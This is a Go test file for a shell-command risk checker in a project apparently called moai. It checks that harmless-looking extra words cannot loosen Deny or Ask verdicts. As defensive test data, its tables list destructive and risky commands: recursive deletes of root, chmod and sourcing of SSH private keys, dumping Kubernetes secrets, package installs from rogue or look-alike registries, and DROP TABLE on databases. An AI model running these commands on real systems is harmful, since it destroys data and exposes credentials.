package risk

import (
	"strings"
	"testing"

	"github.com/modu-ai/moai/internal/rule"
	"github.com/modu-ai/moai/internal/shell"
)

// ownWords are verbs of moai and words with which other programs only look. For any
// program that takes files they are names, and loosen nothing.
var ownWords = []string{
	"tags", "doctor", "status", "version", "help", "list", "spec", "detect", "statusline", "replay",
	"config get", "risk check", "checkpoint list", "checkpoint show", "rules check", "init",
}

// checkWith is Check of a line with words put in among the arguments of command n, from
// argument at on.
func checkWith(s *Set, in *Input, n, at int, words string) Verdict {
	c := checker{named: predicates[:], set: s, in: in}
	c.res = c.parse(in.Command, shell.Bash)
	if n < len(c.res.Commands) {
		var args []shell.Word
		args = append(args, c.res.Commands[n].Args[:at]...)
		for _, text := range strings.Fields(words) {
			args = append(args, shell.Word{Text: text})
		}
		c.res.Commands[n].Args = append(args, c.res.Commands[n].Args[at:]...)
	}
	c.calls = make([]call, len(c.res.Commands))
	for i := range c.res.Commands {
		c.calls[i].read(&c, i)
	}
	for i := range c.calls {
		c.judge(&c.calls[i])
		c.judgeShifted(&c.calls[i])
	}
	c.settle()
	return c.verdict()
}

// A word that means something to moai, or to another program, must mean nothing where it
// is only one more operand: wherever a word that nobody knows changes nothing, no other
// may make the verdict weaker. Where the unknown word does, the place is one that counts
// (a subcommand, an option's value, the last operand of cp), and it is skipped.
func TestNoWordLoosens(t *testing.T) {
	risks := builtin(t)
	set := NewSet(risks)
	for i := range risks.Rules {
		r := &risks.Rules[i]
		for hit := range r.Hits.All() {
			in := Example(hit)
			if in.Command == "" {
				continue
			}
			before := set.Check(&in)
			res := (&checker{named: predicates[:], set: set, in: &in}).parse(in.Command, shell.Bash)
			for n := range res.Commands {
				for at := 1; at <= len(res.Commands[n].Args); at++ {
					for _, words := range excusing(r, at == len(res.Commands[n].Args)) {
						after := checkWith(set, &in, n, at, words)
						if after.Action >= before.Action || counts(&res.Commands[n], at) {
							continue
						}
						unknown := strings.Repeat("zzqz ", len(strings.Fields(words)))
						if checkWith(set, &in, n, at, unknown).Action >= before.Action {
							t.Errorf("%s: %q with %q as argument %d of %s: %v, without it %v", r.ID, hit, words, at, res.Commands[n].Name, after.Action, before.Action)
						}
					}
				}
			}
		}
	}
}

// excusing are the words that are tried: at the end also those that the rule names itself.
func excusing(r *rule.Risk, end bool) []string {
	words := ownWords
	if r.Action < Deny {
		words = []string{"status", "list", "config get"} // what any table names
	}
	if !end {
		return words
	}
	words = append([]string{}, words...)
	for _, row := range append(r.When.NotWords.List(), r.When.NotOperands.List()...) {
		if !strings.Contains(row, "-") && !(row[0] == '/' && slashed(r.When.Words)) {
			words = append(words, strings.ReplaceAll(row, "*", ""))
		}
	}
	return words
}

// counts reports places where one of ownWords is a subcommand and says truly what the
// call does: behind words of which the last one is not yet what is risky.
func counts(c *shell.Command, at int) bool {
	for i := 1; i < at; i++ {
		if strings.HasPrefix(c.Args[i].Text, "-") {
			continue
		}
		for _, risky := range [...]string{"del", "rm", "rem", "destroy", "drop", "wipe", "clear", "stop", "purge", "forget", "prune", "reset", "revoke", "disable"} {
			if c.Args[i].Text == risky || strings.HasPrefix(c.Args[i].Text, risky+"e") || strings.HasPrefix(c.Args[i].Text, risky+"-") || strings.HasPrefix(c.Args[i].Text, risky+"i") || strings.Contains(c.Args[i].Text, "-"+risky) || strings.Contains(c.Args[i].Text, ":"+risky) {
				return false
			}
		}
	}
	return c.Name != "rm" && c.Name != "find" && c.Name != "dd" && c.Name != "shred"
}

// Operands that used to loosen rules about others, and what is everyday work beside them.
func TestWordsOfOtherPrograms(t *testing.T) {
	set := NewSet(builtin(t))
	for _, c := range []struct {
		line string
		want Action
	}{
		{"rm -rf tags /", Deny},
		{"rm -rf doctor /*", Deny},
		{"rm -rf status detect version /", Deny},
		{"rm -rf config get /", Deny},
		{"find status / -delete", Deny},
		{"sudo rm -rf risk check /", Deny},
		{"rsync -a --delete tags/ help/ /", Deny},
		{"rm $(which moai doctor)", Deny},
		{"rm $(command -v moai tags)", Deny},
		{"btrfs subvolume delete /data list", Deny},
		{"sudo snapper delete 1-20 list", Deny},
		{"gh api -X DELETE repos/me/app tags", Deny},
		{"kill -9 $PID %1", Ask},
		{"kill -9 %1", Allow},
		{"source ~/.ssh/id_rsa .env", Ask},
		{"chmod 777 ~/.ssh/id_rsa 700", Ask},
		{"chmod 700 ~/.ssh", Allow},
		{"tar --to-command=./x -xf a.tar zstd", Ask},
		{"tar --use-compress-program=zstd -cf a.tar src", Allow},
		{"tar --to-command=./x --use-compress-program=zstd -xf a.tar", Ask},
		{"rsync -e './tunnel x' ssh a host:b", Ask},
		{"op item delete list", Ask},
		{"op item list", Allow},
		{"service postgresql stop status", Ask},
		{"service postgresql status", Allow},
		{"gradle publishToMavenLocal publish", Ask},
		{"gradle publishToMavenLocal", Allow},
		{"kubectl get secret name -o yaml", Ask},
		{"kubectl get secret db -o name", Allow},
		{"pip install --index-url https://pypi.org/simple --extra-index-url http://203.0.113.9/ x", Ask},
		{"pip install --index-url https://pypi.org/simple x", Allow},
		{"npm install --registry http://203.0.113.9 x https://registry.npmjs.org", Ask},
		{"npm install --registry https://registry.npmjs.org.evil.example x", Ask},
		{"psql -d prod_db app_test -c 'DROP TABLE users'", Deny}, // a word of production
		{"psql -d app app_test -c 'DROP TABLE users'", Ask},
		{"psql -d app_test -d app -c 'DROP TABLE users'", Ask},
		{"psql -d app_test -c 'DROP TABLE users'", Allow},
		{"psql app_test -c 'DROP DATABASE app'", Ask},
		{"RAILS_ENV=test psql -c 'DROP TABLE users' app", Ask},
		{"RAILS_ENV=test rails db:drop", Allow},
		{"redis-cli -n 15 -n 0 FLUSHDB", Ask},
		{"redis-cli -n 15 FLUSHDB", Allow},
		{"docker rm -f -a app_test", Ask},
		{"docker rm -f app_test", Allow},
		{"aws dynamodb delete-table --table-name t help", Deny},
		{"aws dynamodb delete-table help", Allow},
		{"find . -delete -name '*.pyc'", Deny},
		{"find . -name '*.pyc' , -delete", Deny},
		{"find . -name '*.pyc' -delete", Allow},
		{"conda config --add channels http://203.0.113.9 conda-forge", Ask},
		{"conda config --add channels conda-forge", Allow},
		{"go env -w GOPROXY=http://203.0.113.9 GOPROXY=direct", Ask},
		{"go env -w GOPROXY=direct", Allow},
		{"userdel -r bob /?", Ask},
	} {
		in := World()
		in.Command = c.line
		if v := set.Check(&in); v.Action != c.want {
			t.Errorf("Check(%s) = %s %v, want %s", c.line, v.Action, v.IDs(), c.want)
		}
	}
}
